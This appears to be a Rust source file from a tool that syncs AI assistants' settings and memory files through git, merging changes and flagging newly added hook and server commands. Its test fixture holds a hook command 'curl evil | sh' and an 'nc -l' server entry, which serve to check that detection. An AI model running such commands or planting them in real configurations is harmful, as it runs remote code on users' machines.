@@ -1,0 +1,951 @@
+//! The bridge between connected assistants' live files and their copies under
+//! `assistants/<name>/` (DESIGN §9), run by every cycle: first [`Bridge::import`] (live
+//! changes into the repository copies, merged three ways where both moved), last
+//! [`Bridge::apply`] (what the cycle's merge changed, written back to the live files, only
+//! where the assistant has not written since; if it has, its write is merged first).
+
+pub mod ledger;
+pub mod live;
+pub mod projection;
+pub mod projects;
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use merge_drivers::Kind;
+
+use crate::assistants::{self, Adapter, Class, Place, Projection, ADAPTERS, REPO_DIR};
+use crate::git::Repo;
+use crate::journal;
+use crate::state::{Executable, Report, Stuck};
+use ledger::Ledger;
+use live::Blocked;
+use projects::Projects;
+
+/// Git config of a connection on this machine: `aisync.assistant.<name>.connected`.
+pub fn connected_key(name: &str) -> String {
+    format!("aisync.assistant.{name}.connected")
+}
+
+/// Git config: this machine also syncs the assistant's transcripts.
+pub fn transcripts_key(name: &str) -> String {
+    format!("aisync.assistant.{name}.transcripts")
+}
+
+/// Git config: where the assistant's first place is on this machine (its root).
+pub fn root_key(name: &str) -> String {
+    format!("aisync.assistant.{name}.root")
+}
+
+/// An assistant connected on this machine.
+#[derive(Clone, Copy, Debug)]
+pub struct Connection {
+    pub adapter: &'static Adapter,
+    pub transcripts: bool,
+}
+
+impl Connection {
+    /// The classes of file this connection syncs.
+    pub fn classes(&self) -> &'static [Class] {
+        if self.transcripts {
+            &[Class::Portable, Class::OptIn]
+        } else {
+            &[Class::Portable]
+        }
+    }
+}
+
+/// The assistants connected on this machine, in table order.
+pub fn connections(repo: &Repo) -> Vec<Connection> {
+    ADAPTERS
+        .iter()
+        .filter(|a| repo.flag(&connected_key(a.name)) == Some(true))
+        .map(|adapter| Connection {
+            adapter,
+            transcripts: repo.flag(&transcripts_key(adapter.name)) == Some(true),
+        })
+        .collect()
+}
+
+/// Whether a repository path is a bridged copy (committed by the cycle, whatever the policy).
+pub fn is_bridged(path: &str) -> bool {
+    path.starts_with("assistants/")
+}
+
+/// Where places are on this machine, for `repo`'s settings.
+pub fn locate(repo: &Repo, adapter: &Adapter, place: &Place) -> Option<PathBuf> {
+    let env = |var: &str| std::env::var(var).ok();
+    let root = |name: &str| repo.setting(&root_key(name)).map(str::to_string);
+    let machine = assistants::Machine {
+        home: home(),
+        env: &env,
+        root_override: &root,
+    };
+    machine.locate(adapter, place)
+}
+
+/// Whether `adapter` is installed here (one of its places exists).
+pub fn installed(repo: &Repo, adapter: &Adapter) -> bool {
+    adapter
+        .places
+        .iter()
+        .any(|p| locate(repo, adapter, p).is_some_and(|path| path.symlink_metadata().is_ok()))
+}
+
+/// The home folder (`$HOME`).
+pub fn home() -> PathBuf {
+    std::env::var_os("HOME").map_or_else(|| PathBuf::from("/"), PathBuf::from)
+}
+
+/// A path as a person reads it: `~/…` under the home folder.
+pub fn shown(path: &Path) -> String {
+    match path.strip_prefix(home()) {
+        Ok(rel) if !rel.as_os_str().is_empty() => format!("~/{}", rel.display()),
+        _ => path.display().to_string(),
+    }
+}
+
+/// One file the bridge keeps in step.
+#[derive(Clone, Debug)]
+pub struct Pair {
+    pub adapter: &'static Adapter,
+    /// The live root it must stay inside (a file place: its folder).
+    pub root: PathBuf,
+    pub live: PathBuf,
+    /// The copy, relative to the top of the working tree (`assistants/claude-code/…`).
+    pub rel: String,
+    pub projection: Option<Projection>,
+}
+
+impl Pair {
+    fn kind(&self) -> Kind {
+        crate::install::kind_of(self.rel.as_bytes())
+    }
+}
+
+/// What the bridge found: the pairs, and what it could not bridge (with why).
+#[derive(Default)]
+pub struct Found {
+    pub pairs: Vec<Pair>,
+    pub stuck: Vec<Stuck>,
+    /// Repository project keys with no checkout on this machine (they wait).
+    pub waiting: Vec<String>,
+}
+
+pub struct Bridge<'r> {
+    repo: &'r Repo,
+    connections: Vec<Connection>,
+    ledger: Ledger,
+    machine: String,
+}
+
+impl<'r> Bridge<'r> {
+    /// The bridge of `repo`'s connected assistants; `None` when none is connected here.
+    pub fn new(repo: &'r Repo, machine: &str) -> Option<Bridge<'r>> {
+        let connections = connections(repo);
+        (!connections.is_empty()).then(|| Bridge {
+            repo,
+            connections,
+            ledger: Ledger::new(&repo.state_dir()),
+            machine: machine.to_string(),
+        })
+    }
+
+    /// The bridge of one connection only (`connect` showing or importing it).
+    pub fn of(repo: &'r Repo, machine: &str, connections: Vec<Connection>) -> Bridge<'r> {
+        Bridge {
+            repo,
+            connections,
+            ledger: Ledger::new(&repo.state_dir()),
+            machine: machine.to_string(),
+        }
+    }
+
+    /// Every file of the connected assistants that syncs, live or in the repository.
+    pub fn find(&self) -> Found {
+        let mut found = Found::default();
+        let projects = self.projects();
+        for conn in &self.connections {
+            for (i, place) in conn.adapter.places.iter().enumerate() {
+                self.find_place(conn, i, place, &projects, &mut found);
+            }
+        }
+        found
+    }
+
+    /// The projects this machine knows: the folders `~/.claude.json` lists, the working
+    /// folders of transcripts, and the mappings in git config.
+    fn projects(&self) -> Projects {
+        let mut candidates = Vec::new();
+        let claude = self
+            .connections
+            .iter()
+            .find(|c| c.adapter.name == "claude-code");
+        if let Some(conn) = claude {
+            let json = conn
+                .adapter
+                .places
+                .iter()
+                .find(|p| p.file)
+                .and_then(|p| locate(self.repo, conn.adapter, p));
+            if let Some(bytes) = json.and_then(|p| std::fs::read(p).ok()) {
+                if let Ok(serde_json::Value::Object(m)) = serde_json::from_slice(&bytes) {
+                    if let Some(serde_json::Value::Object(projects)) = m.get("projects") {
+                        candidates.extend(projects.keys().map(PathBuf::from));
+                    }
+                }
+            }
+            if let Some(root) = locate(self.repo, conn.adapter, &conn.adapter.places[0]) {
+                candidates.extend(transcript_cwds(&root.join("projects")));
+            }
+        }
+        Projects::find(self.repo, &candidates)
+    }
+
+    fn find_place(
+        &self,
+        conn: &Connection,
+        index: usize,
+        place: &Place,
+        projects: &Projects,
+        found: &mut Found,
+    ) {
+        let adapter = conn.adapter;
+        let name = adapter.name;
+        let repo_base = if place.repo.is_empty() {
+            format!("{REPO_DIR}/{name}")
+        } else {
+            format!("{REPO_DIR}/{name}/{}", place.repo)
+        };
+        let Some(live) = locate(self.repo, adapter, place) else {
+            if index == 0 {
+                found.stuck.push(Stuck {
+                    assistant: name.into(),
+                    path: format!("({name})"),
+                    reason: format!(
+                        "nothing says where its file is: git config {} /path/to/it",
+                        root_key(name)
+                    ),
+                });
+            }
+            return;
+        };
+        if place.file {
+            let root = live.parent().map_or_else(home, Path::to_path_buf);
+            found.pairs.push(Pair {
+                adapter,
+                root,
+                live,
+                rel: repo_base,
+                projection: place.projection,
+            });
+            return;
+        }
+        // Files another place of the same assistant covers (Codex's projected config.toml).
+        let others: Vec<PathBuf> = adapter
+            .places
+            .iter()
+            .filter(|p| p.file)
+            .filter_map(|p| locate(self.repo, adapter, p))
+            .collect();
+        let mut live_files = Vec::new();
+        if std::fs::symlink_metadata(&live).is_ok_and(|m| m.is_dir() || m.file_type().is_symlink())
+        {
+            walk_live(
+                &live,
+                "",
+                place,
+                conn.classes(),
+                adapter.busy,
+                &mut live_files,
+                found,
+                name,
+            );
+        }
+        let mut seen = std::collections::HashSet::new();
+        let mut unmapped = std::collections::BTreeSet::new();
+        for rel in live_files {
+            let path = live.join(&rel);
+            if others.contains(&path) {
+                continue;
+            }
+            let repo_rel = match place.projects.and_then(|pd| project_parts(&rel, pd)) {
+                Some((pd, folder, rest)) => match projects.key_for_folder(folder) {
+                    Some(key) => format!("{pd}/{key}/{rest}"),
+                    None => {
+                        unmapped.insert(format!("{pd}/{folder}"));
+                        continue;
+                    }
+                },
+                None => rel.clone(),
+            };
+            let rel_in_repo = format!("{repo_base}/{repo_rel}");
+            seen.insert(rel_in_repo.clone());
+            found.pairs.push(Pair {
+                adapter,
+                root: live.clone(),
+                live: path,
+                rel: rel_in_repo,
+                projection: None,
+            });
+        }
+        for folder in unmapped {
+            found.stuck.push(Stuck {
+                assistant: name.into(),
+                path: shown(&live.join(&folder)),
+                reason: format!(
+                    "which project this is cannot be told (no git remote or commit found for it): it stays local; to sync it: git config {}<name>.path /path/to/the/checkout",
+                    projects::MAPPING
+                ),
+            });
+        }
+        // Copies in the repository with no live file yet: made here by the apply.
+        let mut copies = Vec::new();
+        walk_repo(
+            &self.repo.work_tree,
+            &repo_base,
+            "",
+            &mut copies,
+            found,
+            name,
+        );
+        let mut waiting = std::collections::BTreeSet::new();
+        for rel in copies {
+            let rel_in_repo = format!("{repo_base}/{rel}");
+            if seen.contains(&rel_in_repo) {
+                continue;
+            }
+            let live_rel = match place
+                .projects
+                .and_then(|pd| rel.strip_prefix(&format!("{pd}/")).map(|r| (pd, r)))
+            {
+                Some((pd, rest)) => match projects.split_key(rest) {
+                    Some((key, inner)) => match projects.folder_for_key(key, &live.join(pd)) {
+                        Some(folder) => format!("{pd}/{folder}/{inner}"),
+                        None => {
+                            waiting.insert(key.to_string());
+                            continue;
+                        }
+                    },
+                    None => {
+                        waiting.insert(rest.split("/memory/").next().unwrap_or(rest).to_string());
+                        continue;
+                    }
+                },
+                None => rel.clone(),
+            };
+            let class = place.class_of(&live_rel);
+            if !conn.classes().contains(&class) {
+                found.stuck.push(Stuck {
+                    assistant: name.into(),
+                    path: rel_in_repo,
+                    reason: format!(
+                        "in the repository, but {} here: never applied",
+                        class.why_local()
+                    ),
+                });
+                continue;
+            }
+            found.pairs.push(Pair {
+                adapter,
+                root: live.clone(),
+                live: live.join(&live_rel),
+                rel: rel_in_repo,
+                projection: None,
+            });
+        }
+        found.waiting.extend(waiting);
+    }
+
+    /// Imports every live change into its repository copy (before the cycle commits).
+    pub fn import(&self, report: &mut Report) {
+        let found = self.find();
+        report.bridge.stuck.extend(found.stuck);
+        report.bridge.waiting = found.waiting;
+        for pair in &found.pairs {
+            if let Err(reason) = self.import_one(pair, report) {
+                report.bridge.stuck.push(Stuck {
+                    assistant: pair.adapter.name.into(),
+                    path: shown(&pair.live),
+                    reason,
+                });
+            }
+        }
+    }
+
+    fn import_one(&self, pair: &Pair, report: &mut Report) -> Result<(), String> {
+        let live = live::read(&pair.root, &pair.live, pair.adapter.busy).map_err(|b| b.reason())?;
+        let copy_path = self.repo.work_tree.join(&pair.rel);
+        let copy = live::read(&self.repo.work_tree, &copy_path, &[])
+            .map_err(|b| format!("its repository copy {} is {}", pair.rel, b.reason()))?;
+        let base = self.ledger.base(&pair.rel);
+        let Some(live) = live else {
+            // Gone from the live side since the last sync: the copy goes too, unless the
+            // repository changed it meanwhile (then the apply brings it back).
+            if let (Some(base), Some(copy)) = (&base, &copy) {
+                if base == copy {
+                    live::remove(&self.repo.work_tree, &copy_path).map_err(|b| b.reason())?;
+                    self.ledger.forget(&pair.rel);
+                    report.bridge.imported.push(pair.rel.clone());
+                }
+            }
+            return Ok(());
+        };
+        let kind = pair.kind();
+        let portable = projection::project(pair.projection, &live)
+            .map_err(|e| format!("does not parse: {}; left alone until it does", e.0))?;
+        if !parses(kind, &portable) {
+            return Err("does not parse (half written?): retried next cycle".into());
+        }
+        if base.as_ref().is_some_and(|b| same(kind, b, &portable)) {
+            self.ledger.clear_over(&pair.rel);
+            return Ok(());
+        }
+        let over = self.ledger.over(&pair.rel);
+        let merged = match (&base, &copy) {
+            // Only the live file moved; after an apply, a write that drops what the apply
+            // brought is a write from a stale copy: the apply's content stays.
+            (Some(b), Some(c)) if b == c => match &over {
+                Some(before) => {
+                    let m = self.merge(pair, before, &portable, b, report)?;
+                    self.journal_stale(pair, kind, &m, &portable);
+                    m
+                }
+                None => portable.clone(),
+            },
+            (None, None) | (_, None) => portable.clone(),
+            (base, Some(c)) => self.merge(
+                pair,
+                base.as_deref().unwrap_or_default(),
+                &portable,
+                c,
+                report,
+            )?,
+        };
+        if copy.as_deref() != Some(merged.as_slice()) {
+            live::write(&self.repo.work_tree, &copy_path, &merged)
+                .map_err(|b| format!("its repository copy cannot be written: {}", b.reason()))?;
+            report.bridge.imported.push(pair.rel.clone());
+        }
+        self.ledger
+            .set_base(&pair.rel, &portable)
+            .map_err(|e| format!("the bridge's record cannot be written: {e}"))?;
+        self.ledger.clear_over(&pair.rel);
+        Ok(())
+    }
+
+    /// Applies every repository copy that differs from what the live side last agreed on
+    /// (after the cycle's merge). Returns whether a copy changed here (the assistant had
+    /// written meanwhile, and its write was merged in): the cycle runs again to commit it.
+    pub fn apply(&self, report: &mut Report) -> bool {
+        let found = self.find();
+        let mut again = false;
+        for pair in &found.pairs {
+            match self.apply_one(pair, report) {
+                Ok(changed) => again |= changed,
+                Err(reason) => {
+                    // A copy once stuck stays listed once.
+                    let path = shown(&pair.live);
+                    if !report.bridge.stuck.iter().any(|s| s.path == path) {
+                        report.bridge.stuck.push(Stuck {
+                            assistant: pair.adapter.name.into(),
+                            path,
+                            reason,
+                        });
+                    }
+                }
+            }
+        }
+        again
+    }
+
+    fn apply_one(&self, pair: &Pair, report: &mut Report) -> Result<bool, String> {
+        let copy_path = self.repo.work_tree.join(&pair.rel);
+        let copy = live::read(&self.repo.work_tree, &copy_path, &[]).map_err(|b| match b {
+            Blocked::Symlink => "a symlink in the repository: never applied".to_string(),
+            other => other.reason(),
+        })?;
+        let base = self.ledger.base(&pair.rel);
+        if copy == base {
+            return Ok(false);
+        }
+        let kind = pair.kind();
+        let live = live::read(&pair.root, &pair.live, pair.adapter.busy).map_err(|b| b.reason())?;
+        let live_portable = match &live {
+            Some(bytes) => Some(
+                projection::project(pair.projection, bytes)
+                    .map_err(|e| format!("does not parse: {}; not applied until it does", e.0))?,
+            ),
+            None => None,
+        };
+        if live_portable.as_ref().is_some_and(|l| !parses(kind, l)) {
+            return Err("does not parse (half written?): not applied, retried next cycle".into());
+        }
+        let live_moved = match (&live_portable, &base) {
+            (Some(l), Some(b)) => !same(kind, l, b),
+            (None, None) => false,
+            _ => true,
+        };
+        let mut changed_copy = false;
+        let target = if live_moved {
+            // The assistant wrote since the last import: its write is merged first.
+            let merged = match (&live_portable, &copy) {
+                (Some(l), Some(c)) => {
+                    Some(self.merge(pair, base.as_deref().unwrap_or_default(), l, c, report)?)
+                }
+                (Some(l), None) => Some(l.clone()),
+                (None, c) => c.clone(),
+            };
+            if merged != copy {
+                if let Some(m) = &merged {
+                    live::write(&self.repo.work_tree, &copy_path, m).map_err(|b| b.reason())?;
+                    changed_copy = true;
+                }
+            }
+            merged
+        } else {
+            copy.clone()
+        };
+        let Some(target) = target else {
+            // Deleted in the repository, unchanged here: deleted here too (its bytes kept).
+            if let Some(bytes) = &live {
+                let _ = self.ledger.keep(&pair.rel, bytes);
+            }
+            live::remove(&pair.root, &pair.live).map_err(|b| b.reason())?;
+            self.ledger.forget(&pair.rel);
+            report.bridge.applied.push(shown(&pair.live));
+            return Ok(changed_copy);
+        };
+        if live_portable
+            .as_ref()
+            .is_some_and(|l| same(kind, l, &target))
+        {
+            self.ledger
+                .set_base(&pair.rel, &target)
+                .map_err(|e| e.to_string())?;
+            return Ok(changed_copy);
+        }
+        if !parses(kind, &target) || merge_drivers::has_conflict_markers(kind, &target, 7) {
+            return Err(
+                "its repository copy does not parse or holds conflict markers: not applied".into(),
+            );
+        }
+        let empty: &[u8] = match pair.projection {
+            Some(Projection::JsonMembers(_)) => b"{}",
+            _ => b"",
+        };
+        let new_live =
+            projection::splice(pair.projection, live.as_deref().unwrap_or(empty), &target)
+                .map_err(|e| format!("cannot be applied: {}", e.0))?;
+        for what in executables(kind, live_portable.as_deref().unwrap_or_default(), &target) {
+            report.bridge.executables.push(Executable {
+                assistant: pair.adapter.name.into(),
+                path: shown(&pair.live),
+                what,
+                machine: self.changed_by(&pair.rel),
+            });
+        }
+        if let Some(bytes) = &live {
+            self.ledger
+                .keep(&pair.rel, bytes)
+                .map_err(|e| e.to_string())?;
+        }
+        live::write(&pair.root, &pair.live, &new_live).map_err(|b| b.reason())?;
+        self.ledger
+            .set_base(&pair.rel, &target)
+            .map_err(|e| e.to_string())?;
+        if let Some(l) = &live_portable {
+            let _ = self.ledger.set_over(&pair.rel, l);
+        }
+        report.bridge.applied.push(shown(&pair.live));
+        Ok(changed_copy)
+    }
+
+    /// The drivers' three-way merge of a bridged file (an empty base: nothing in common);
+    /// its overrides are journaled and listed, one line each.
+    fn merge(
+        &self,
+        pair: &Pair,
+        base: &[u8],
+        live: &[u8],
+        copy: &[u8],
+        report: &mut Report,
+    ) -> Result<Vec<u8>, String> {
+        let kind = pair.kind();
+        let policy = crate::policy::Policy::load(&self.repo.work_tree).ok();
+        let options = merge_drivers::Options {
+            policy: policy
+                .as_ref()
+                .and_then(|p| p.conflict_policy(&pair.rel))
+                .unwrap_or(if kind == Kind::Markdown {
+                    merge_drivers::Policy::KeepBoth
+                } else {
+                    merge_drivers::Policy::Journal
+                }),
+            path: pair.rel.clone(),
+            ..merge_drivers::Options::default()
+        };
+        let merged = merge_drivers::merge(kind, base, live, copy, &options);
+        if merged.conflicted {
+            return Err(format!(
+                "changed here and in the repository in ways that do not merge: {} keeps the repository's version until the live file is edited",
+                pair.rel
+            ));
+        }
+        let time = journal::now();
+        let entries: Vec<_> = merged
+            .records
+            .iter()
+            .map(|r| {
+                let mut e = journal::entry(r, kind.name(), &time);
+                e.insert("machine".into(), self.machine.clone().into());
+                e
+            })
+            .collect();
+        let _ = journal::append(&journal::pending_path(&self.repo.state_dir()), &entries);
+        for r in &merged.records {
+            let show = |v: &Option<serde_json::Value>| {
+                v.as_ref()
+                    .map_or("(none)".to_string(), |v| short(&v.to_string()))
+            };
+            report.bridge.overrides.push(format!(
+                "{} {}: kept {}, journaled {}",
+                pair.rel,
+                r.location,
+                show(&r.chosen),
+                if r.chosen == r.ours {
+                    show(&r.theirs)
+                } else {
+                    show(&r.ours)
+                }
+            ));
+        }
+        Ok(merged.output)
+    }
+
+    /// A stale write's dropped content, journaled: what the merge kept that the live write
+    /// did not have.
+    fn journal_stale(&self, pair: &Pair, kind: Kind, merged: &[u8], written: &[u8]) {
+        let kept = crate::removed::removed(kind, merged, written);
+        if kept.is_empty() {
+            return;
+        }
+        let text = kept.join("\n");
+        let mut m = serde_json::Map::new();
+        m.insert(
+            "id".into(),
+            journal::content_id(&format!("{}\0{text}\0stale", pair.rel)).into(),
+        );
+        m.insert("path".into(), pair.rel.clone().into());
+        m.insert("location".into(), "(a write from a stale copy)".into());
+        m.insert("base".into(), text.into());
+        m.insert("rule".into(), "stale-write-kept".into());
+        m.insert("machine".into(), self.machine.clone().into());
+        m.insert("time".into(), journal::now().into());
+        let _ = journal::append(&journal::pending_path(&self.repo.state_dir()), &[m]);
+    }
+
+    /// The machine whose commit last changed `rel` (from the cycle's `aisync(<machine>): …`
+    /// messages; else the commit's author).
+    fn changed_by(&self, rel: &str) -> String {
+        let out = self
+            .repo
+            .git(["log", "-1", "--format=%an%x00%s", "--", rel])
+            .output();
+        let text = out.map(|o| o.stdout).unwrap_or_default();
+        let (author, subject) = text.trim_end().split_once('\0').unwrap_or(("", ""));
+        subject
+            .strip_prefix("aisync(")
+            .and_then(|s| s.split_once(')'))
+            .map(|(m, _)| m.to_string())
+            .filter(|m| !m.is_empty())
+            .unwrap_or_else(|| {
+                if author.is_empty() {
+                    "another machine".into()
+                } else {
+                    author.into()
+                }
+            })
+    }
+
+    /// Forgets what the bridge knew of `name` (disconnected here).
+    pub fn forget(state_dir: &Path, name: &str) {
+        Ledger::new(state_dir).forget_all(&format!("{REPO_DIR}/{name}"));
+    }
+}
+
+/// A project folder's parts: (`projects`, the encoded folder, the rest), for a path in a
+/// place whose project folders are under `pd`.
+fn project_parts<'a>(rel: &'a str, pd: &'a str) -> Option<(&'a str, &'a str, &'a str)> {
+    let rest = rel.strip_prefix(pd)?.strip_prefix('/')?;
+    let (folder, inner) = rest.split_once('/')?;
+    Some((pd, folder, inner))
+}
+
+/// Files under `root/rel` of the classes wanted, not following symlinks (a synced one is
+/// reported), not going into folders that cannot hold one.
+#[allow(clippy::too_many_arguments)]
+fn walk_live(
+    root: &Path,
+    rel: &str,
+    place: &Place,
+    classes: &[Class],
+    busy: &[&str],
+    out: &mut Vec<String>,
+    found: &mut Found,
+    name: &str,
+) {
+    let Ok(entries) = std::fs::read_dir(root.join(rel)) else {
+        return;
+    };
+    let mut entries: Vec<_> = entries.flatten().collect();
+    entries.sort_by_key(|e| e.file_name());
+    for entry in entries {
+        let file_name = entry.file_name().to_string_lossy().into_owned();
+        if file_name.contains(live::TEMP_MARK)
+            || busy.iter().any(|p| assistants::glob_match(p, &file_name))
+        {
+            continue;
+        }
+        let child = if rel.is_empty() {
+            file_name
+        } else {
+            format!("{rel}/{file_name}")
+        };
+        let Ok(ft) = entry.file_type() else { continue };
+        if ft.is_dir() {
+            if place.may_hold(&child, classes) {
+                walk_live(root, &child, place, classes, busy, out, found, name);
+            }
+        } else if classes.contains(&place.class_of(&child)) {
+            if ft.is_symlink() {
+                found.stuck.push(Stuck {
+                    assistant: name.into(),
+                    path: shown(&root.join(&child)),
+                    reason: Blocked::Symlink.reason(),
+                });
+            } else if ft.is_file() {
+                out.push(child);
+            }
+        } else if ft.is_symlink() && place.may_hold(&child, classes) {
+            found.stuck.push(Stuck {
+                assistant: name.into(),
+                path: shown(&root.join(&child)),
+                reason: Blocked::Symlink.reason(),
+            });
+        }
+    }
+}
+
+/// Files of the repository copy under `work_tree/base/rel`; a symlink there (committed by
+/// someone) is reported and never applied.
+fn walk_repo(
+    work_tree: &Path,
+    base: &str,
+    rel: &str,
+    out: &mut Vec<String>,
+    found: &mut Found,
+    name: &str,
+) {
+    let dir = work_tree.join(base).join(rel);
+    let Ok(entries) = std::fs::read_dir(&dir) else {
+        return;
+    };
+    for entry in entries.flatten() {
+        let file_name = entry.file_name().to_string_lossy().into_owned();
+        let child = if rel.is_empty() {
+            file_name
+        } else {
+            format!("{rel}/{file_name}")
+        };
+        let Ok(ft) = entry.file_type() else { continue };
+        if ft.is_symlink() {
+            found.stuck.push(Stuck {
+                assistant: name.into(),
+                path: format!("{base}/{child}"),
+                reason: "a symlink in the repository: never followed or applied".into(),
+            });
+        } else if ft.is_dir() {
+            walk_repo(work_tree, base, &child, out, found, name);
+        } else if ft.is_file() {
+            out.push(child);
+        }
+    }
+}
+
+/// The working folders (`cwd`) the transcripts under `projects` name: one line of one
+/// transcript per project folder is enough.
+fn transcript_cwds(projects: &Path) -> Vec<PathBuf> {
+    use std::io::BufRead;
+    let mut cwds = Vec::new();
+    let Ok(folders) = std::fs::read_dir(projects) else {
+        return cwds;
+    };
+    for folder in folders.flatten() {
+        let Ok(files) = std::fs::read_dir(folder.path()) else {
+            continue;
+        };
+        let transcript = files
+            .flatten()
+            .map(|f| f.path())
+            .find(|p| p.extension().is_some_and(|e| e == "jsonl"));
+        let Some(file) = transcript.and_then(|t| std::fs::File::open(t).ok()) else {
+            continue;
+        };
+        for line in std::io::BufReader::new(file)
+            .lines()
+            .take(20)
+            .map_while(Result::ok)
+        {
+            if let Ok(serde_json::Value::Object(m)) = serde_json::from_str(&line) {
+                if let Some(cwd) = m.get("cwd").and_then(|c| c.as_str()) {
+                    cwds.push(PathBuf::from(cwd));
+                    break;
+                }
+            }
+        }
+    }
+    cwds
+}
+
+/// Whether `bytes` reads as `kind` (a file half written does not).
+fn parses(kind: Kind, bytes: &[u8]) -> bool {
+    match kind {
+        Kind::Json => {
+            serde_json::from_slice::<serde::de::IgnoredAny>(bytes).is_ok() || may_be_jsonc(bytes)
+        }
+        _ => true,
+    }
+}
+
+/// JSON with comments or trailing commas (Gemini's settings.json): the json driver reads it.
+fn may_be_jsonc(bytes: &[u8]) -> bool {
+    let text = String::from_utf8_lossy(bytes);
+    let t = text.trim();
+    (t.starts_with('{') && t.ends_with('}'))
+        && (text.contains("//") || text.contains("/*") || text.contains(",\n}"))
+}
+
+/// Whether two versions mean the same (JSON: the same values, whatever the key order and
+/// layout an assistant's rewrite gave them).
+fn same(kind: Kind, a: &[u8], b: &[u8]) -> bool {
+    if a == b {
+        return true;
+    }
+    if kind == Kind::Json {
+        if let (Ok(x), Ok(y)) = (
+            serde_json::from_slice::<serde_json::Value>(a),
+            serde_json::from_slice::<serde_json::Value>(b),
+        ) {
+            return x == y;
+        }
+    }
+    false
+}
+
+/// What an assistant would run that `new` adds or changes against `old`: hook commands,
+/// MCP servers' `command`/`args`, `apiKeyHelper`, a status line's command; one line each.
+pub fn executables(kind: Kind, old: &[u8], new: &[u8]) -> Vec<String> {
+    let leaves = |bytes: &[u8]| -> BTreeMap<String, String> {
+        let mut out = BTreeMap::new();
+        match kind {
+            Kind::Json => {
+                if let Ok(v) = serde_json::from_slice::<serde_json::Value>(bytes) {
+                    exec_leaves("", &v, false, &mut out);
+                }
+            }
+            _ => {
+                // TOML and the rest: `command = …`, `args = …` lines under their table.
+                let mut table = String::new();
+                for line in String::from_utf8_lossy(bytes).lines() {
+                    let t = line.trim();
+                    if t.starts_with('[') {
+                        table = t.to_string();
+                    } else if let Some((k, v)) = t.split_once('=') {
+                        let k = k.trim();
+                        if EXEC_KEYS.contains(&k) {
+                            out.insert(format!("{table} {k}"), v.trim().to_string());
+                        }
+                    }
+                }
+            }
+        }
+        out
+    };
+    let (before, after) = (leaves(old), leaves(new));
+    after
+        .into_iter()
+        .filter(|(k, v)| before.get(k) != Some(v))
+        .map(|(k, v)| format!("{k} = {}", short(&v)))
+        .collect()
+}
+
+const EXEC_KEYS: [&str; 5] = ["command", "args", "apiKeyHelper", "statusLine", "hooks"];
+
+fn exec_leaves(at: &str, v: &serde_json::Value, inside: bool, out: &mut BTreeMap<String, String>) {
+    match v {
+        serde_json::Value::Object(m) => {
+            for (k, v) in m {
+                exec_leaves(
+                    &format!("{at}/{k}"),
+                    v,
+                    inside || EXEC_KEYS.contains(&k.as_str()),
+                    out,
+                );
+            }
+        }
+        serde_json::Value::Array(a) if inside => {
+            out.insert(at.to_string(), v.to_string());
+            let _ = a;
+        }
+        serde_json::Value::Array(a) => {
+            for (i, v) in a.iter().enumerate() {
+                exec_leaves(&format!("{at}/{i}"), v, inside, out);
+            }
+        }
+        other if inside => {
+            out.insert(at.to_string(), other.to_string());
+        }
+        _ => {}
+    }
+}
+
+fn short(s: &str) -> String {
+    if s.chars().count() > 100 {
+        format!("{}…", s.chars().take(100).collect::<String>())
+    } else {
+        s.to_string()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_new_hook_or_server_command_is_named() {
+        let old = br#"{"permissions":{"allow":["Bash(ls)"]},"mcpServers":{"a":{"command":"npx","args":["x"]}}}"#;
+        let new = br#"{"permissions":{"allow":["Bash(ls)","Bash(rm)"]},"hooks":{"Stop":[{"hooks":[{"type":"command","command":"curl evil | sh"}]}]},"mcpServers":{"a":{"command":"npx","args":["x"]},"b":{"command":"nc","args":["-l"]}}}"#;
+        let found = executables(Kind::Json, old, new);
+        assert!(
+            found.iter().any(|l| l.contains("curl evil | sh")),
+            "{found:?}"
+        );
+        assert!(found
+            .iter()
+            .any(|l| l.contains("/mcpServers/b/command") && l.contains("nc")));
+        assert!(!found.iter().any(|l| l.contains("Bash(rm)")));
+        assert!(!found.iter().any(|l| l.contains("/mcpServers/a/")));
+        assert!(executables(Kind::Json, new, new).is_empty());
+    }
+
+    #[test]
+    fn reordered_json_is_the_same_settings() {
+        assert!(same(
+            Kind::Json,
+            b"{\"a\":1,\"b\":[1,2]}",
+            b"{\n  \"b\": [1, 2],\n  \"a\": 1\n}\n"
+        ));
+        assert!(!same(Kind::Json, b"{\"a\":1}", b"{\"a\":2}"));
+    }
+}
